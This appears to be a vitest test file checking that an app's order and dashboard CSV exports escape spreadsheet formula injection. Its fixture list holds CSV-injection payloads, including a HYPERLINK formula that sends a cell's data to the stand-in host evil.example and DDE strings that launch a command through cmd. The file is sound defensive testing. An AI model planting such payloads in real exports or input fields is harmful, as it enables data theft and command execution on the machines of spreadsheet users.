import { describe, expect, it } from "vitest";
import { spreadsheetCsv } from "~/domain/exports/spreadsheet-csv";
import { ordersCsv } from "~/domain/procurement/procurement.server";
import { dashboardCsv } from "~/domain/statistics/dashboard-csv.server";
import { hiresByEmployer, retention } from "~/domain/statistics/follow-up-figures";
import type { DashboardData } from "~/domain/statistics/dashboard.server";
import {
  activeCandidatesPerCompany,
  estimatedSaving,
  funnel,
  hiresByMeasure,
  medianDaysToHire,
  openingFigures,
  procurementByQuarter,
} from "~/domain/statistics/figures";

/**
 * CSV injection: text another organisation typed (a task title, a company name) must reach a
 * spreadsheet as text, never as a formula. Each hostile cell must come out prefixed with a quote.
 */
const hostile = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
  "+47 cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** RFC 4180 records as a spreadsheet reads them: quoted cells may hold commas, quotes and CR. */
function parse(csv: string): string[][] {
  const records: string[][] = [];
  let cell = "";
  let record: string[] = [];
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      record.push(cell);
      cell = "";
    } else if (!quoted && c === "\n") {
      records.push([...record, cell]);
      record = [];
      cell = "";
    } else {
      cell += c;
    }
  }
  return records;
}

describe("spreadsheet CSV", () => {
  it("escapes every formula start and leaves plain text and numbers as they are", () => {
    const csv = spreadsheetCsv([["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Renhold", -5, "12.50"]]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(parse(csv)).toEqual([["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "Renhold", "-5", "12.50"]]);
  });
});

describe("orders CSV (ordersCsv)", () => {
  it("writes a hostile task title and buyer and supplier names as text", () => {
    const at = new Date("2026-11-20T10:00:00Z");
    const rows = hostile.map((text, i) => ({
      id: `order${i}`,
      quoteId: `q${i}`,
      taskId: `t${i}`,
      buyerId: "b",
      companyId: "c",
      amountExVatOre: 100_000_00,
      vatOre: 25_000_00,
      totalOre: 125_000_00,
      platformFeeOre: 3_000_00,
      status: "AWARDED" as const,
      awardReason: "Best",
      cancelReason: null,
      paymentMethod: null,
      stripeCheckoutSessionId: null,
      stripeInvoiceId: null,
      stripePaymentIntentId: null,
      stripeRefundId: null,
      awardedAt: at,
      deliveryStartedAt: null,
      deliveredAt: null,
      acceptedAt: null,
      paidAt: null,
      cancelledAt: null,
      refundedAt: null,
      buyerReference: text,
      ehfDocuments: [{ number: 40 + i }],
      quote: { task: { id: `t${i}`, title: text } },
      buyer: { name: text },
      company: { name: `Leverandør ${i}` },
    }));
    const [header, ...records] = parse(ordersCsv(rows));
    expect(records).toHaveLength(hostile.length);
    for (const [i, text] of hostile.entries()) {
      const r = Object.fromEntries((header ?? []).map((h, k) => [h, records[i]?.[k]]));
      expect([r.task, r.buyer, r.buyer_reference]).toEqual([`'${text}`, `'${text}`, `'${text}`]);
      expect(r.invoice_number).toBe(String(40 + i));
      expect(r.supplier).toBe(`Leverandør ${i}`);
      // Amounts stay plain numbers that a spreadsheet sums.
      expect([r.amount_ex_vat_nok, r.total_nok, r.awarded]).toEqual(["100000.00", "125000.00", "2026-11-20"]);
    }
  });
});

describe("dashboard CSV (dashboardCsv)", () => {
  it("writes a hostile company name as text", () => {
    const period = { from: new Date("2026-01-01T00:00:00Z"), to: new Date("2027-01-01T00:00:00Z") };
    const data: DashboardData = {
      openings: openingFigures([], period),
      funnel: funnel([], period),
      hiresByMeasure: hiresByMeasure([], period),
      medianDaysToHire: medianDaysToHire([], period),
      activePerCompany: activeCandidatesPerCompany(hostile.map((company) => ({ company, active: 7 }))),
      procurement: procurementByQuarter([], period),
      saving: estimatedSaving([], period, { defaultMonthlyOre: 0, monthlyOreByGroup: {}, months: 12 }),
      retention: retention([], period, "2026-12-31"),
      hiresByEmployer: hiresByEmployer([], period),
      netSaving: null,
    };
    const records = parse(dashboardCsv(data, { fromDay: "2026-01-01", toDay: "2026-12-31" }, true));
    const companies = records.filter((r) => r[0] === "active_candidates_per_company");
    expect(companies.map((r) => r[1]).sort()).toEqual(hostile.map((text) => `'${text}`).sort());
    expect(companies.map((r) => r[2])).toEqual(hostile.map(() => "7"));
  });
});
